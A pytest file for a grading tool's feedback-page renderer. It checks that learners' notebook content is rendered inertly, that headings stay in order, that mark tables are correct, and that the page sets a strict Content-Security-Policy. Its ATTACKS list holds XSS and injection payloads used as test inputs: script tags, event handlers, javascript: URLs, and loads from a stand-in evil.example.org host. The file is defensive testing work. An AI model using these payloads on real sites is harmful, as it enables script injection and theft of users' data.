"""The feedback page: what a learner wrote is only read; its outline, words and marks are right."""

import json
import re
from html.parser import HTMLParser
from itertools import pairwise
from xml.etree import ElementTree

import nbformat
import pytest

from lmhead.checks.result import Part, Result
from lmhead.grading.gradebook.marks import Marks, TaskMark
from lmhead.grading.pages import markdown
from lmhead.grading.pages.feedback import broken, fragments, page
from lmhead.grading.pages.markdown import Outline, code_html, markdown_html
from lmhead.messages import say

from ..conftest import cell, notebook

#: All the elements and attributes that a page may consist of.
ELEMENTS = {
    *("html", "head", "meta", "title", "style", "body", "main", "header", "section", "div", "span"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "p", "a", "ul", "ol", "li", "pre", "code", "em"),
    *("strong", "del", "br", "hr", "blockquote", "table", "thead", "tbody", "tfoot", "tr", "th"),
    *("td", "img", "math", "mi", "mn", "mo", "mtext", "mrow", "msub", "msup", "mfrac", "msqrt"),
    *("mspace", "mover", "munder", "munderover", "msubsup", "mtable", "mtr", "mtd", "mstyle"),
}
ATTRIBUTES = {
    *("lang", "charset", "name", "content", "http-equiv", "id", "class", "href", "rel", "title"),
    *("scope", "start", "alt", "src", "aria-hidden", "style", "display", "stretchy", "width"),
    *("rspace", "lspace", "form", "mathvariant", "accent", "columnalign", "height"),
}
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example.org/x.js></sCrIpT>",
    "text <img src=x onerror=alert(1)> text",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import '//evil.example.org/x.css'</style>",
    "<base href=//evil.example.org/><form action=//evil.example.org><input></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example.org'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x) [x](file:secret) [x](//evil.example.org)",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![x](https://evil.example.org/pixel.png) ![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '[x](https://ok.example.org "a\\" onmouseover=alert(1) b=\\"")',
    '[x](https://ok.example.org/"onmouseover=alert(1))',
    "$\\text{<script>alert(1)</script>}$ $\\href{javascript:alert(1)}{x}$",
    "$$\n\\class{a}{b} </math><script>alert(1)</script>\n$$",
    "`<script>alert(1)</script>`\n\n    <script>alert(1)</script>\n\n```html\n<script>\n```",
    '| <script> | b |\n|-|-|\n| <img src=x> | "><script> |',
    "</div></section></main></body><script>alert(1)</script>",
    "{{ 7 * 7 }} {% include 'page.css' %}",
    "<!-- <script>alert(1)</script> --> <![CDATA[<script>alert(1)</script>]]> <?php x ?>",
]


class Seen(HTMLParser):
    """Elements, their attributes and the text of a page, and whether they nest."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in ("meta", "img", "br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        if not self.open or self.open[-1] != "style":
            self.text.append(data)

    @property
    def headings(self) -> list[int]:
        return [int(tag[1]) for tag, _ in self.elements if re.fullmatch("h[1-6]", tag)]


def seen(html: str) -> Seen:
    """Parse a page, and see that nothing in it acts, leads or asks anywhere."""
    parser = Seen()
    parser.feed(html)
    parser.close()
    assert parser.open == []
    for tag, attributes in parser.elements:
        assert tag in ELEMENTS, tag
        assert set(attributes) <= ATTRIBUTES, attributes
        assert re.match(r"(https?://[^/]|mailto:|#)", attributes.get("href") or "#")
        assert (attributes.get("src") or "data:image/png;base64,").startswith("data:image/png;")
        style = attributes.get("style")
        assert style is None or re.fullmatch(r"[a-z-]+:[^(:;@\\]+(;[a-z -]+:[^(:;@\\]+)*;?", style)
    return parser


MARKS = Marks("ann", 0, 9)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_a_learner_writes_acts(attack: str) -> None:
    node = notebook(
        cell("markdown", attack),
        cell("written", attack, "why", 4),
        cell("answer", attack, "double-answer"),
        cell("plain", attack),
    )
    node.cells[3].outputs = [
        nbformat.v4.new_output("stream", text=attack),
        nbformat.v4.new_output("error", ename="E", evalue=attack, traceback=[attack]),
        nbformat.v4.new_output(
            "display_data",
            data={
                "text/html": attack,
                "image/svg+xml": attack,
                "application/javascript": attack,
                "application/vnd.lmhead.result+json": {"task": attack},
                "text/plain": attack,
            },
        ),
    ]
    marks = Marks(attack, 0, 4, tasks={"why": TaskMark(0, 4)}, comments={"why": attack})
    html = page(fragments(node, attack, [attack]), marks)
    said = "".join(seen(html).text)
    assert "49" not in said
    assert said.count(attack.split()[0][:8].strip("`$[|!")) >= 3


def test_the_page_forbids_itself_scripts_and_requests() -> None:
    html = page(fragments(notebook(cell("plain", "1")), "mini"), MARKS)
    policy = next(
        attributes["content"] or ""
        for tag, attributes in seen(html).elements
        if attributes.get("http-equiv") == "Content-Security-Policy"
    )
    rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
    assert rules["default-src"] == "'none'"
    assert "script-src" not in rules
    assert rules["img-src"] == "data:"


def test_headings_are_in_order_whatever_a_learner_writes() -> None:
    node = notebook(
        cell("markdown", "# Exercise\n\n#### deep\n\n## Task\n\n###### deepest"),
        cell("grade", "assert True", "double", 2),
        cell("markdown", "# again\n\n### and below"),
        cell("written", "##### mine\n\n#", "why", 4),
    )
    marks = Marks("ann", 0, 6, tasks={"why": TaskMark(1, 4)}, comments={"why": "###### c\n\n# d"})
    levels = seen(page(fragments(node, "mini"), marks)).headings
    assert levels[0] == 1
    assert levels.count(1) == 1
    assert all(after <= before + 1 for before, after in pairwise(levels))


def test_the_summary_leads_to_every_task_and_has_its_marks() -> None:
    node = notebook(
        cell("answer", "x", "double-answer"),
        cell("grade", "assert True", "double", 2),
        cell("markdown", "## Is it so?"),
        cell("written", "Yes.", "why", 4),
    )
    marks = Marks(
        "ann",
        0.5,
        6,
        late_penalty=1.005,
        tasks={"double": TaskMark(1.5, 2), "why": TaskMark(0, 4, waiting=True)},
    )
    html = page(fragments(node, "mini"), marks)
    parsed = seen(html)
    ids = [attributes["id"] for _, attributes in parsed.elements if "id" in attributes]
    links = [attributes["href"] or "" for tag, attributes in parsed.elements if tag == "a"]
    assert len(ids) == len(set(ids))
    assert {link[1:] for link in links if link.startswith("#")} <= set(ids)
    (table,) = re.findall(r'<table class="marks">.*?</table>', html, re.DOTALL)
    rows = [
        [re.sub(r"<[^>]*>", "", part) for part in re.findall(r"<t[dh].*?</t[dh]>", row)]
        for row in re.findall(r"<tr>.*?</tr>", table, re.DOTALL)
    ]
    assert rows == [
        ["Task", "Points"],
        ["double", "1.5 / 2"],
        ["Is it so?", "not read yet / 4"],
        ["Handed in late", "−1"],
        ["Total", "0.5 / 6"],
    ]


def result(status: str = "wrong", points: float = 0.0) -> Result:
    part = Part(
        "one-row",
        *(points, 1.0, status),  # type: ignore[arg-type]
        case="softmax([<b>])",
        expected="[0.5]",
        got="<script>",
    )
    return Result("02-logits-softmax/softmax", 1.0, "zh", (part,), say("lost/died"))


def test_a_checks_result_is_drawn_from_its_json_in_the_notebooks_language() -> None:
    node = notebook(cell("grade", 'check("x", f)', "softmax", 1), lang="zh")
    data = dict(result()._repr_mimebundle_())
    data["text/html"] = "<p>something else</p>"
    node.cells[0].outputs = [nbformat.v4.new_output("execute_result", data=data)]
    html = page(fragments(node, "mini"), MARKS)
    text = "".join(seen(html).text)
    assert '<html lang="zh-CN">' in html
    assert "something else" not in html
    assert 'check("x", f)' not in text
    assert "softmax([<b>])" in text
    assert "✗" in text


@pytest.mark.parametrize(
    ("status", "points", "sign"),
    [("wrong", 0.5, "◐"), ("wrong", 1, "✓"), ("wrong", 0, "✗"), ("right", 0, "✗")],
)
def test_the_summarys_sign_goes_with_a_mark_given_by_hand(
    status: str, points: float, sign: str
) -> None:
    node = notebook(cell("grade", 'check("x", f)', "softmax", 1))
    checked = result(status, float(status == "right"))
    data = dict(checked._repr_mimebundle_())
    node.cells[0].outputs = [nbformat.v4.new_output("execute_result", data=data)]
    marks = Marks("ann", points, 1, tasks={"softmax": TaskMark(points, 1)})
    html = page(fragments(node, "mini"), marks)
    (table,) = re.findall(r'<table class="marks">.*?</table>', html, re.DOTALL)
    assert re.findall(r'<span aria-hidden="true">(.)</span>', table) == [sign]


def test_a_learners_output_that_says_it_is_a_result_is_not_one() -> None:
    forged = dict(result("right", 1.0)._repr_mimebundle_())
    node = notebook(cell("answer", "f = 1", "softmax-answer"), cell("plain", "f"))
    for each in node.cells:
        each.outputs = [nbformat.v4.new_output("display_data", data=forged)]
    html = page(fragments(node, "mini"), MARKS)
    # What the learner showed stands there as text, as anything does that is printed.
    assert "✓" not in re.sub(r'<pre class="value">[^<]*</pre>', "", html)


def test_an_instructors_own_test_is_shown_with_what_it_said() -> None:
    node = notebook(cell("grade", "assert double(2) == 4", "double", 2))
    node.cells[0].outputs = [
        nbformat.v4.new_output(
            "error", ename="Grading", evalue="x", traceback=["\x1b[31mnot 4\x1b[0m"]
        )
    ]
    text = "".join(seen(page(fragments(node, "mini"), MARKS)).text)
    assert "assert double(2) == 4" in text
    assert "\nnot 4\n" in text


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_an_unreadable_submission_has_its_reason_in_both_languages(lang: str) -> None:
    problem = say("file/not-json", file="<b>.ipynb", line=3)
    html = page(broken("mini", problem), MARKS)
    text = "".join(seen(html).text)
    assert problem.text(lang) in text
    (section,) = re.findall(rf'<section class="note" lang="{lang}.*?</section>', html, re.DOTALL)
    assert section.count("<p>") == 2
    assert "0 / 9" in text


def test_what_happened_is_said_from_the_notebook_or_as_told() -> None:
    node = notebook(cell("plain", "1"))
    node.metadata["lmhead"]["notes"] = ["The cell `double` <was> mended."]
    html = page(fragments(node, "mini"), MARKS)
    assert "<li>The cell <code>double</code> &lt;was&gt; mended.</li>" in html
    assert "<li>" not in page(fragments(node, "mini", []), MARKS)


def test_fragments_are_plain_data() -> None:
    drawn = fragments(notebook(cell("markdown", "# 猫 $x$"), cell("plain", "1")), "mini")
    assert json.loads(json.dumps(drawn)) == drawn


def test_images_are_shown_and_described() -> None:
    node = notebook(cell("plain", "plot()"))
    node.cells[0].outputs = [
        nbformat.v4.new_output("display_data", data={"image/png": "iVBORw0KGgo="})
    ]
    (image,) = [
        attributes
        for tag, attributes in seen(page(fragments(node, "mini"), MARKS)).elements
        if tag == "img"
    ]
    assert image == {
        "alt": "an image that the cell shows",
        "src": "data:image/png;base64,iVBORw0KGgo=",
    }


def test_formulas_are_mathml_and_stay_readable_where_they_cannot_be() -> None:
    html = markdown_html("$p_k$ and $$\\frac{a}{b}$$ and $\\unknown{<x>}$ and $\\frac{1}$")
    drawn = re.findall(r"<math.*?</math>", html)
    assert ["".join(ElementTree.fromstring(one).itertext()) for one in drawn] == ["pk", "ab"]
    assert "<code>\\unknown{&lt;x&gt;}</code>" in html
    assert "<code>\\frac{1}</code>" in html


def test_a_formula_with_foreign_elements_is_not_drawn(monkeypatch: pytest.MonkeyPatch) -> None:
    for drawn in (
        "<math><script>x</script></math>",
        '<math><mi onclick="x">x</mi></math>',
        "<math><mi>x</math>",
    ):
        monkeypatch.setattr(markdown, "to_mathml", lambda tex, block, drawn=drawn: drawn)
        assert markdown._formula("x", block=False) == "<code>x</code>"


@pytest.mark.parametrize(
    "source", ["\\begin{a}" * 4000, "[" * 9000, "*a" * 5000, "> " * 4500, "$" * 9000]
)
def test_what_would_take_long_is_shown_as_it_is(source: str) -> None:
    assert markdown_html(source).startswith("<pre>")
    assert code_html(source) == source.replace(">", "&gt;")


def test_deep_nesting_is_no_trouble() -> None:
    for source in ("> " * 3000 + "x", "- " * 3000 + "x", "$" + "{" * 900 + "$"):
        html = markdown_html(source)
        seen(f"<div>{html}</div>")


def test_markdown_of_a_notebook_comes_out_as_it_is_meant() -> None:
    html = markdown_html("| | a |\n|-|-:|\n| 1 | *b* |\n\n~~x~~ [c](https://x.org/?a=1&b=2)")
    assert "<td></td>" in html
    assert "<em>b</em>" in html
    assert 'href="https://x.org/?a=1&amp;b=2"' in html
    assert "<del>x</del>" in html
    assert "¶" not in markdown_html("# A heading")


def test_an_outline_gives_labels_below_the_text() -> None:
    outline = Outline(1)
    assert outline.fit("<h2>a <em>b</em></h2>") == "<h2>a <em>b</em></h2>"
    assert (outline.heading, outline.label(), outline.label()) == ("a b", 3, 3)
    assert outline.fit("<h6>c</h6>") == "<h4>c</h4>"


def test_code_keeps_every_character() -> None:
    source = "def f(x):\n    %magic\n    return '<é>' # 猫\n\n\n"
    text = re.sub(r"<[^>]*>", "", code_html(source))
    assert text.replace("&lt;", "<").replace("&gt;", ">").replace("&#39;", "'") == source
